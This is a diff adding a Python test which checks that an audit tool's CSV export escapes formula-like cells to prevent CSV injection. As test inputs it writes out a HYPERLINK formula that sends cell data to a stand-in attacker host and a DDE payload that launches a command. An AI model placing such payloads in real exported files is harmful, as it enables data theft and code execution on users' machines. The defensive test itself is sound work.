@@ -106,3 +106,19 @@ def test_a_table_shows_every_value_whole() -> None:
     out = io.StringIO()
     output.table([{"subject": stored, "ts_us": 0}], (("subject", "subject"),), out, dt.UTC)
     assert stored in out.getvalue()
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text() -> None:
+    """A recorded query is whatever a client sent: `audit export` for a regulator must not hand
+    a spreadsheet `=HYPERLINK(…)` or `@SUM(…)` to run (CSV injection)."""
+    import csv
+
+    query = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    buf = io.StringIO()
+    rows = output.Rows(buf, "csv", (), ZoneInfo("UTC"))
+    for value in (query, "@SUM(1+1)*cmd|'/c calc'!A0", "+1", "-2", "\t=1", "a=b&c=d"):
+        rows.add({"path": "/nope", "query": value, "subject_ids": []})
+    rows.close()
+    read = [r["query"] for r in csv.DictReader(io.StringIO(buf.getvalue()))]
+    assert read[:5] == ["'" + query, "'@SUM(1+1)*cmd|'/c calc'!A0", "'+1", "'-2", "'\t=1"]
+    assert read[5] == "a=b&c=d"  # text that starts with anything else is left as it is
